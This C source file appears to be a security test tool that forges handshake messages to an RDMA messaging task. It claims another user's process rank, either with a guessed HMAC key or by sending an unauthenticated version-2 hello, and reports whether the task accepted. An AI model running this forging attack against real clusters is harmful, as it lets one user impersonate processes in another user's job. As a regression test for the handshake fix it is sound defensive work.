/* msg_forge: a process of another user that knows a step's context id,
 * job and step (not its key) and claims a rank to one of its tasks
 * (switch_rdma/msg/handshake.hpp).
 *
 * Usage: msg_forge [--old] ADDR PORT ID JOB STEP SRC DST PACKET_SIZE
 *   default  waits for the task's challenge, then sends a hello of frame
 *            version 3 whose MAC is made with a guessed (random) key
 *   --old    sends at once the hello of frame version 2 (no challenge, no
 *            proof), which a task of that version accepted
 * Prints what came back and exits 0 if the task refused (closed the
 * connection without an answer), 1 if it answered (accepted the forged
 * rank), 2 on any other error.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/rand.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAGIC_V2 0x53544d32u
#define MAGIC_V3 0x53544d33u
#define ORDER 0x01020304u

struct challenge {
    uint32_t magic, order;
    uint8_t nonce[32];
};
struct hello {
    uint32_t magic, order, id, job, step, src, dst, packet_size;
    uint8_t nonce[32];
    uint8_t mac[32];
};

/* Reads up to n bytes within 10 s; the count (0: closed), -1 on timeout. */
static ssize_t read_some(int fd, void *buf, size_t n)
{
    size_t got = 0;
    while (got < n) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 10000) != 1)
            return got ? (ssize_t)got : -1;
        ssize_t r = recv(fd, (char *)buf + got, n - got, 0);
        if (r <= 0)
            break;
        got += (size_t)r;
    }
    return (ssize_t)got;
}

int main(int argc, char **argv)
{
    int old = argc > 1 && strcmp(argv[1], "--old") == 0;
    if (argc != 9 + old) {
        fprintf(stderr, "usage: msg_forge [--old] ADDR PORT ID JOB STEP SRC DST PACKET_SIZE\n");
        return 2;
    }
    char **a = argv + 1 + old;
    struct sockaddr_in sa = {0};
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)atoi(a[1]));
    if (inet_pton(AF_INET, a[0], &sa.sin_addr) != 1) {
        fprintf(stderr, "msg_forge: bad address %s\n", a[0]);
        return 2;
    }
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        perror("msg_forge: connect");
        return 2;
    }
    struct hello h = {old ? MAGIC_V2 : MAGIC_V3, ORDER, (uint32_t)strtoul(a[2], NULL, 10),
                      (uint32_t)strtoul(a[3], NULL, 10), (uint32_t)strtoul(a[4], NULL, 10),
                      (uint32_t)strtoul(a[5], NULL, 10), (uint32_t)strtoul(a[6], NULL, 10),
                      (uint32_t)strtoul(a[7], NULL, 10), {0}, {0}};
    if (old) {
        /* frame version 2: the first 32 bytes, at once */
        if (send(fd, &h, 32, MSG_NOSIGNAL) != 32) {
            perror("msg_forge: send");
            return 2;
        }
        printf("msg_forge: sent a version-2 hello claiming rank %u\n", h.src);
    }
    struct challenge c;
    ssize_t n = read_some(fd, &c, sizeof c);
    if (n == 8 && c.magic == MAGIC_V2 && c.order == 1) {
        printf("msg_forge: ACCEPTED: the task answered the forged hello (a version-2 HelloAck)\n");
        return 1;
    }
    if (n != (ssize_t)sizeof c || c.magic != MAGIC_V3 || c.order != ORDER) {
        fprintf(stderr, "msg_forge: no challenge of frame version 3 (%zd bytes)\n", n);
        return 2;
    }
    printf("msg_forge: the task sent a challenge (frame version 3)\n");
    if (!old) {
        uint8_t key[32], data[15 + 1 + 32 + 64];
        unsigned int len = 0;
        if (RAND_bytes(key, sizeof key) != 1 || RAND_bytes(h.nonce, sizeof h.nonce) != 1)
            return 2;
        memcpy(data, "storm-msg hello", 16); /* the label, its NUL included */
        memcpy(data + 16, c.nonce, 32);
        memcpy(data + 48, &h, 64);
        if (!HMAC(EVP_sha256(), key, sizeof key, data, sizeof data, h.mac, &len) || len != 32)
            return 2;
        if (send(fd, &h, sizeof h, MSG_NOSIGNAL) != (ssize_t)sizeof h) {
            perror("msg_forge: send");
            return 2;
        }
        printf("msg_forge: sent a hello claiming rank %u with a guessed key\n", h.src);
    }
    char ack[40];
    n = read_some(fd, ack, sizeof ack);
    if (n == 0) {
        printf("msg_forge: refused: the task closed the connection without an answer\n");
        return 0;
    }
    if (n > 0) {
        printf("msg_forge: ACCEPTED: the task answered (%zd bytes)\n", n);
        return 1;
    }
    fprintf(stderr, "msg_forge: no answer and no close within 10 s\n");
    return 2;
}
